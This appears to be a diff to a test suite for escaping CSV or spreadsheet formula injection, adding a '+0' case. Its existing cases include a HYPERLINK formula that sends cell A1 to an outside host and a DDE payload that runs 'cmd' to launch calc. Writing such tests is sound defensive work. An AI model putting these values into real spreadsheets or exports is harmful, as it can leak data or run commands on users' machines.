@@ -11,6 +11,7 @@ describe('words that a spreadsheet might run', () => {
       field: `'=HYPERLINK("http://a.vn?"&A1)`,
     },
     { why: 'a plus', text: '+84 24', field: "'+84 24" },
+    { why: 'a plus before a number, which would be lost', text: '+0', field: "'+0" },
     { why: 'a command of old', text: "-2+3+cmd|' /C calc'!A0", field: "'-2+3+cmd|' /C calc'!A0" },
     { why: 'a name of a function', text: '@SUM(A1)', field: "'@SUM(A1)" },
     { why: 'a tab that a spreadsheet takes away first', text: '\t=1+1', field: "'\t=1+1" },
